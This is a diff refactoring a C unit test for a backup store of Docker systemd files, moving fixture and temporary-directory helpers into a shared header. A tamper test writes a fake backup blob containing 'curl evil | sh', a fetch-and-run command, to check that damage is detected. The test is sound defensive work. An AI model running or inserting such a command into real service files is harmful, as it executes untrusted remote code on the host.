@@ -3,7 +3,6 @@
  * files backed up are Debian's (tests/fixtures/base/debian). */
 #include <errno.h>
 #include <fcntl.h>
-#include <ftw.h>
 #include <setjmp.h>
 #include <stdarg.h>
 #include <stddef.h>
@@ -19,6 +18,7 @@
 #include "rootfs.h"
 #include "store.h"
 #include "util.h"
+#include "fixture.h"
 
 #define UNIT "/lib/systemd/system/docker.service"
 #define DEFAULT "/etc/default/docker"
@@ -27,33 +27,6 @@
 
 static char root[64];
 static int rootfd = -1;
-
-static char *fixture(const char *rel) {
-        const char *top = getenv("top_srcdir");
-        _cleanup_free_ char *path = xasprintf("%s/tests/fixtures/base/debian%s", top ? top : ".", rel);
-        char *text = NULL;
-        size_t len = 0;
-        int fd = rootfs_open("/");
-
-        assert_true(fd >= 0);
-        assert_int_equal(rootfs_read_data(fd, path, &text, &len), 0);
-        close(fd);
-        return text;
-}
-
-static void put(const char *rel, const char *text, mode_t mode) {
-        _cleanup_free_ char *p = xasprintf("%s%s", root, rel);
-        for (char *s = strchr(p + strlen(root) + 1, '/'); s; s = strchr(s + 1, '/')) {
-                *s = '\0';
-                (void) mkdir(p, 0755);
-                *s = '/';
-        }
-        FILE *f = fopen(p, "we");
-        assert_non_null(f);
-        fputs(text, f);
-        assert_int_equal(fclose(f), 0);
-        assert_int_equal(chmod(p, mode), 0);
-}
 
 static char *read_back(const char *rel) {
         char *text = NULL;
@@ -68,25 +41,18 @@ static mode_t mode_of(const char *rel) {
 }
 
 static int setup(_unused_ void **state) {
-        _cleanup_free_ char *unit = fixture(UNIT), *def = fixture(DEFAULT);
+        _cleanup_free_ char *unit = fixture_text("base/debian" UNIT), *def = fixture_text("base/debian" DEFAULT);
 
-        snprintf(root, sizeof(root), "/tmp/drs-store.XXXXXX");
-        assert_non_null(mkdtemp(root));
-        put(UNIT, unit, 0644);
-        put(DEFAULT, def, 0640);
+        tree_make(root, sizeof(root), "store");
         rootfd = rootfs_open(root);
         assert_true(rootfd >= 0);
+        tree_put(root, UNIT, unit, 0644);
+        tree_put(root, DEFAULT, def, 0640);
         return 0;
 }
 
-static int remove_one(const char *path, _unused_ const struct stat *st, _unused_ int type, _unused_ struct FTW *f) {
-        return remove(path);
-}
-
 static int teardown(_unused_ void **state) {
-        close(rootfd);
-        /* Only this test's own mkdtemp() directory, symlinks not followed. */
-        assert_int_equal(nftw(root, remove_one, 16, FTW_DEPTH | FTW_PHYS), 0);
+        tree_done(rootfd, root);
         return 0;
 }
 
@@ -102,7 +68,7 @@ static void take(struct drs_manifest *m, const char *summary) {
 
 /* A set holds each file as it was (content, mode), and "did not exist" for the new drop-in. */
 static void test_take_and_read(_unused_ void **state) {
-        _cleanup_free_ char *unit = fixture(UNIT), *def = fixture(DEFAULT);
+        _cleanup_free_ char *unit = fixture_text("base/debian" UNIT), *def = fixture_text("base/debian" DEFAULT);
         struct drs_manifest m, back = {0};
         struct drs_diag d = {0};
         char *text = NULL;
@@ -173,7 +139,7 @@ static void test_tamper(_unused_ void **state) {
         take(&m, "to be tampered with");
         _cleanup_free_ char *blob = xasprintf("%s/%s/0", DRS_BACKUP_DIR, m.id);
         assert_int_equal(store_backup_load(rootfd, m.id, &back, &d), 0);
-        put(blob, "[Service]\nExecStart=/bin/sh -c 'curl evil | sh'\n", 0600);
+        tree_put(root, blob, "[Service]\nExecStart=/bin/sh -c 'curl evil | sh'\n", 0600);
         assert_int_equal(store_backup_blob(rootfd, &back, &back.files[0], &text, &len, &d), -EBADMSG);
         assert_non_null(strstr(d.message, "damaged"));
         diag_done(&d);
@@ -186,12 +152,12 @@ static void test_tamper(_unused_ void **state) {
         /* The manifest of another set copied over this one's. */
         _cleanup_free_ char *other = read_back(DRS_BACKUP_DIR "/20261130-005320/manifest.json"),
                             *mine = xasprintf("%s/%s/manifest.json", DRS_BACKUP_DIR, m.id);
-        put(mine, other, 0600);
+        tree_put(root, mine, other, 0600);
         assert_int_equal(store_backup_load(rootfd, m.id, &back, &d), -EBADMSG);
         assert_non_null(strstr(d.message, "belongs to backup"));
         diag_done(&d);
         /* Not JSON at all. */
-        put(mine, "{\"id\": ", 0600);
+        tree_put(root, mine, "{\"id\": ", 0600);
         assert_int_equal(store_backup_load(rootfd, m.id, &back, &d), -EBADMSG);
         diag_done(&d);
         assert_int_equal(store_backup_load(rootfd, "20991231-000000", &back, &d), -ENOENT);
@@ -207,7 +173,7 @@ static void test_cleanup(_unused_ void **state) {
         _cleanup_strv_free_ char **ids = NULL, **aside = NULL;
         struct drs_manifest m;
 
-        put(DRS_BACKUP_DIR "/20261130-005321.new/0", "half a set\n", 0600);
+        tree_put(root, DRS_BACKUP_DIR "/20261130-005321.new/0", "half a set\n", 0600);
         take(&m, "loses its manifest");
         _cleanup_free_ char *manifest = xasprintf("%s%s/%s/manifest.json", root, DRS_BACKUP_DIR, m.id);
         assert_int_equal(unlink(manifest), 0);
